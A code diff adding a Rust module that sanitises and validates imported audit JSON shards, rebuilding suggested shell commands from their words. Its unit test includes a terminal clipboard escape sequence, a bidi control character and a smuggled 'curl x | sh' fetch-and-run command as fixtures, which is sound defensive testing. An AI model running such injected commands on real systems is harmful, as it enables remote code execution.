@@ -1,0 +1,173 @@
+//! `--merge` input: another run's `audit -o json` document is input like any
+//! other file, and may have been written by anyone. Every string is
+//! sanitised before it is kept (escapes, bidi controls and secrets as a table
+//! shows them, and cut at its 2 KiB), every code must be one this
+//! version knows, every time must parse, and each suggested command's line is
+//! rebuilt from its words: the document's own `shell` is never printed.
+
+use std::str::FromStr as _;
+
+use serde_json::Value;
+
+use super::{AuditJson, StepCommandJson};
+use crate::audit::FindingKind;
+use crate::diagnosis::{Cause, Command, Confidence, SupportKind};
+use crate::report::sanitize::sanitize;
+
+/// A shard document that cannot be merged (exit 2).
+#[derive(Debug, thiserror::Error)]
+#[error("{what} is not an `audit -o json` document: {detail}")]
+pub struct ShardError {
+    pub what: String,
+    pub detail: String,
+}
+
+/// Reads one shard's document (already parsed as JSON) from `what`.
+pub fn read(mut value: Value, what: &str) -> Result<AuditJson, ShardError> {
+    let error = |detail: String| ShardError {
+        what: what.to_owned(),
+        detail,
+    };
+    clean(&mut value);
+    let mut doc: AuditJson = serde_json::from_value(value).map_err(|e| error(e.to_string()))?;
+    check(&mut doc).map_err(error)?;
+    Ok(doc)
+}
+
+/// Every string sanitised, in place (map keys too: `by_status` codes).
+fn clean(value: &mut Value) {
+    match value {
+        Value::String(s) => {
+            if let std::borrow::Cow::Owned(clean) = sanitize(s) {
+                *s = clean;
+            }
+        }
+        Value::Array(items) => items.iter_mut().for_each(clean),
+        Value::Object(map) => {
+            let entries = std::mem::take(map);
+            for (key, mut v) in entries {
+                clean(&mut v);
+                map.insert(sanitize(&key).into_owned(), v);
+            }
+        }
+        _ => {}
+    }
+}
+
+/// The codes, times and commands of a document; the commands' lines and the
+/// causes' summaries rebuilt from what this version knows.
+fn check(doc: &mut AuditJson) -> Result<(), String> {
+    let known = |field: &str, value: &str, ok: bool| {
+        if ok {
+            Ok(())
+        } else {
+            Err(format!("{field} {value:?} is not one this version knows"))
+        }
+    };
+    time("evaluated_at", &doc.evaluated_at)?;
+    if let Some(span) = &doc.span {
+        time("span.first", &span.first)?;
+        time("span.last", &span.last)?;
+    }
+    for code in doc.by_status.keys() {
+        known("status", code, code.parse::<u16>().is_ok())?;
+    }
+    for f in &mut doc.findings {
+        known(
+            "kind",
+            &f.kind,
+            FindingKind::ALL.iter().any(|k| k.as_str() == f.kind),
+        )?;
+        time("first_seen", &f.first_seen)?;
+        time("last_seen", &f.last_seen)?;
+        for bucket in &f.timeline {
+            time("timeline", &bucket.at)?;
+        }
+        if let Some(stale) = &f.stale {
+            time("stale_since", &stale.stale_since)?;
+        }
+        known(
+            "attribution",
+            &f.identity.attribution.method,
+            ["exact", "guess", "unknown"].contains(&f.identity.attribution.method.as_str()),
+        )?;
+        for joined in f.reasons.iter().flat_map(|r| &r.joined) {
+            cause(&joined.cause)?;
+        }
+        let d = &mut f.diagnosis;
+        d.summary = cause(&d.cause)?.summary().to_owned();
+        confidence(&d.confidence)?;
+        for fact in d.support.iter().chain(&d.notes) {
+            known(
+                "fact kind",
+                &fact.kind,
+                SupportKind::ALL.iter().any(|k| k.as_str() == fact.kind),
+            )?;
+        }
+        for alternative in &mut d.alternatives {
+            alternative.summary = cause(&alternative.cause)?.summary().to_owned();
+            confidence(&alternative.confidence)?;
+        }
+        for command in d.next.iter_mut().filter_map(|s| s.command.as_mut()) {
+            command.shell = line(command);
+        }
+    }
+    Ok(())
+}
+
+fn time(field: &str, value: &str) -> Result<(), String> {
+    crate::timefmt::parse_instant(value)
+        .map(|_| ())
+        .map_err(|_| format!("{field} {value:?} is not an RFC 3339 time"))
+}
+
+fn cause(name: &str) -> Result<Cause, String> {
+    Cause::from_str(name).map_err(|_| format!("cause {name:?} is not one this version knows"))
+}
+
+fn confidence(name: &str) -> Result<(), String> {
+    if Confidence::ALL.iter().any(|c| c.as_str() == name) {
+        Ok(())
+    } else {
+        Err(format!("confidence {name:?} is not one this version knows"))
+    }
+}
+
+/// The command's line for a shell, quoted from its words as a run of this
+/// version would have quoted them.
+fn line(c: &StepCommandJson) -> String {
+    Command {
+        argv: c.argv.clone(),
+        pipe: c.pipe.clone(),
+        output: c.output.clone(),
+        expect: None,
+        placeholders: c.placeholders,
+    }
+    .shell()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn strings_are_sanitised_and_lines_rebuilt() {
+        let mut v = json!({"a": ["x\u{1b}]52;c;aGk=\u{7}y", {"k\u{202e}": "z"}]});
+        clean(&mut v);
+        let text = v.to_string();
+        assert!(
+            !text.contains('\u{1b}') && !text.contains('\u{202e}'),
+            "{text}"
+        );
+        let c = StepCommandJson {
+            argv: vec!["kubectl".into(), "get".into(), "pods; curl x | sh".into()],
+            pipe: vec![],
+            output: None,
+            shell: "kubectl get pods; curl x | sh".into(),
+            expect: None,
+            placeholders: false,
+        };
+        assert_eq!(line(&c), "kubectl get 'pods; curl x | sh'");
+    }
+}
